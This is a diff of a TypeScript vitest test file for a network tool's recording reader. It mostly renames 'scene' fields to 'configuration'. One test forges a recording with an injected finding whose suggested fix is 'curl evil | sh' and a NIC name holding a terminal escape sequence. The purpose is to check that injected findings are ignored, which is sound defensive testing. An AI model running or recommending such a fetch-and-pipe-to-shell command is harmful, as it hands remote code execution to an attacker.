@@ -6,13 +6,13 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { createRecorder, openRecording, readRecording } from '../../src/live/recording.ts';
 import type { Sample } from '../../src/live/types.ts';
 import { isFailure } from '../../src/system/errors.ts';
-import { mended, pair } from '../fixtures/samples.ts';
+import { pair, tuned } from '../fixtures/samples.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'lt-recording-'));
 afterAll(() => rmSync(folder, { recursive: true }));
 
 const file = join(folder, 'pair.jsonl');
-const { history } = mended(pair);
+const { history } = tuned(pair);
 
 function record(samples: readonly Sample[]): string {
   const recorder = createRecorder(file, true);
@@ -35,7 +35,7 @@ describe('a recording', () => {
   it('returns every sample, and contains a configuration only if it changed', () => {
     const text = record(history);
     expect(readRecording(text)).toEqual(history);
-    expect(text.split('\n').filter((line) => line.startsWith('{"scene"'))).toHaveLength(2);
+    expect(text.split('\n').filter((line) => line.startsWith('{"configuration"'))).toHaveLength(2);
     const [first, second] = readRecording(text);
     expect(first?.configuration).toBe(second?.configuration);
   });
@@ -60,10 +60,10 @@ describe('a recording', () => {
   it('is judged by the machine that it contains, not by the findings that it contains', () => {
     const [header = '', machine = '', sample = ''] = record(history).split('\n');
     const forged = JSON.parse(machine);
-    forged.scene.findings = [
+    forged.configuration.findings = [
       { rule: 'x', severity: 'error', subject: 'eth0', message: 'run this', fix: ['curl evil | sh'] },
     ];
-    forged.scene.paths = [{ nic: '\x1b[2J' }];
+    forged.configuration.paths = [{ nic: '\x1b[2J' }];
     const [read] = readRecording(`${header}\n${JSON.stringify(forged)}\n${sample}\n`);
     expect(read?.configuration).toEqual(history[0]?.configuration);
   });
